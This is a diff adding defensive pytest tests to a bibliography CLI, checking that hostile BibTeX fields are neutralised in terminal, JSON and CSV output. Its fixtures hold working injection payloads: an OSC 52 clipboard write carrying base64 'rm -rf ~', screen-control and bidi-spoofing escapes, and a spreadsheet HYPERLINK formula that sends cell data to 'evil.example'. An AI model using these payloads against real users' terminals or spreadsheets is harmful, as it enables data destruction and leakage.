@@ -243,3 +243,130 @@ def test_quote_macros_nested_and_unclosed(latex, expected):
     from kg.core.latex import decode
 
     assert decode(latex) == expected
+
+
+# --------------------------------------------------------------------------- 3. terminal, CSV
+
+OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"  # writes the clipboard
+CSI = "\x1b[2J\x1b[31m"  # clears the screen, red
+C1 = "\x9b31m\x9d0;title\x9c"  # the same with 8-bit controls
+BIDI = "\u202etxt.exe\u202c \u2066x\u2069"
+ORDINARY = "Ça Déjà 東京 👩‍💻 e\u0301 ❤️"
+HOSTILE_BIB = f"""@book{{esc1,
+  author     = {{Mallory, Eve}},
+  title      = {{Le titre {OSC52}{CSI} {C1} {BIDI} {ORDINARY}}},
+  date       = {{1999}},
+  publisher  = {{=HYPERLINK("https://evil.example/?x="&A1,"clic")}},
+  location   = {{@SUM(1+1)}},
+  keywords   = {{surveillance}},
+  annotation = {{Annotation {CSI}surveillance piégée {OSC52}}},
+  langid     = {{french}},
+}}
+
+@book{{plain1,
+  author     = {{-Dash, Ann}},
+  title      = {{+33 1 23 45 67 89}},
+  date       = {{-0384}},
+  keywords   = {{surveillance}},
+}}
+"""
+RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\u202e", "\u202c", "\u2066", "\u2069")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory, ontology_path):
+    from click.testing import CliRunner
+
+    from kg.cli import main
+
+    base = tmp_path_factory.mktemp("escapes")
+    bib = base / "esc.bib"
+    bib.write_text(HOSTILE_BIB, encoding="utf-8")
+    opts = ["--bib", str(bib), "--ontology", str(ontology_path), "--out", str(base / "out")]
+    r = CliRunner().invoke(main, ["build", str(bib), "--ontology", str(ontology_path), "--out",
+                                  str(base / "out"), "-q"])
+    assert r.exit_code == 0, r.output
+
+    def run(*args):
+        r = CliRunner().invoke(main, [*args, *opts])
+        assert r.exit_code == 0 and r.exception is None, (r.output, r.exception)
+        return r.output
+
+    run.opts = opts
+    return run
+
+
+@pytest.mark.parametrize("args", [
+    ["work", "esc1"], ["work", "esc1", "--format", "markdown"], ["theme", "surveillance"],
+    ["theme", "surveillance", "--format", "markdown"], ["search", "surveillance"],
+    ["search", "piégée"], ["query", "SELECT ?t WHERE { ?w <http://purl.org/dc/terms/title> ?t }"],
+    ["export"], ["export", "--format", "text"], ["export", "--format", "markdown"],
+    ["export", "--format", "ris"], ["export", "--format", "csl-json"], ["cite", "esc1"],
+    ["work", "esc1", "--format", "json"], ["theme", "surveillance", "--format", "json"],
+    ["query", "CONSTRUCT { ?w <http://purl.org/dc/terms/title> ?t } WHERE "
+              "{ ?w <http://purl.org/dc/terms/title> ?t }"],
+], ids=" ".join)
+def test_no_raw_control_character_reaches_the_terminal(hostile, args):
+    out = hostile(*args)
+    assert not [c for c in RAW if c in out], [hex(ord(c)) for c in RAW if c in out]
+    assert "esc1" in out or "Le titre" in out
+
+
+def test_controls_shown_visibly_and_ordinary_text_kept(hostile):
+    out = hostile("work", "esc1")
+    assert "␛]52;c;cm0gLXJmIH4=␇" in out and "␛[2J␛[31m" in out
+    assert "\\x9b31m" in out and "\\u202etxt.exe" in out
+    assert ORDINARY in out
+
+
+def test_json_keeps_the_values(hostile):
+    d = json.loads(hostile("work", "esc1", "--format", "json"))
+    title = d["work"]["title"]
+    assert OSC52 in title and CSI in title and C1 in title and BIDI in title
+    assert ORDINARY in title
+
+
+def test_csv_formulas_neutralised(hostile):
+    import csv
+    import io
+
+    out = hostile("work", "esc1", "--format", "csv")
+    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
+    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"clic\")" in cells
+    assert "'@SUM(1+1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    out = hostile("work", "plain1", "--format", "csv")
+    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
+    assert "'+33 1 23 45 67 89" in cells and "-0384" in cells  # a number stays a number
+    out = hostile("query", "SELECT ?p WHERE { ?w <http://purl.org/dc/terms/publisher> ?p }",
+                  "--format", "csv")
+    assert "'=HYPERLINK(" in out and '\n"=HYPERLINK' not in out
+
+
+@pytest.mark.parametrize("cell, expected", [
+    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("-12", "-12"), ("+3.5", "+3.5"), ("-1e3", "-1e3"), ("a=1", "a=1"),
+    ("", ""), ("Ça", "Ça"),
+])
+def test_csv_safe(cell, expected):
+    from kg.core.output import csv_safe
+
+    assert csv_safe(cell) == expected
+
+
+@pytest.mark.parametrize("text", [ORDINARY, "plain ascii", "tab\tand\nline", "Ελληνικά ﷺ",
+                                  "👨‍👩‍👧 🏳️‍🌈 ‍", "עברית \u200f العربية"])
+def test_visible_leaves_ordinary_text_alone(text):
+    from kg.core.output import visible
+
+    assert visible(text, keep="\n\t") == text
+
+
+def test_error_messages_are_terminal_safe(hostile):
+    from click.testing import CliRunner
+
+    from kg.cli import main
+
+    r = CliRunner().invoke(main, ["work", f"nokey{CSI}\u202e", *hostile.opts])
+    assert r.exit_code != 0 and "Error:" in r.output
+    assert "\x1b" not in r.output and "\u202e" not in r.output
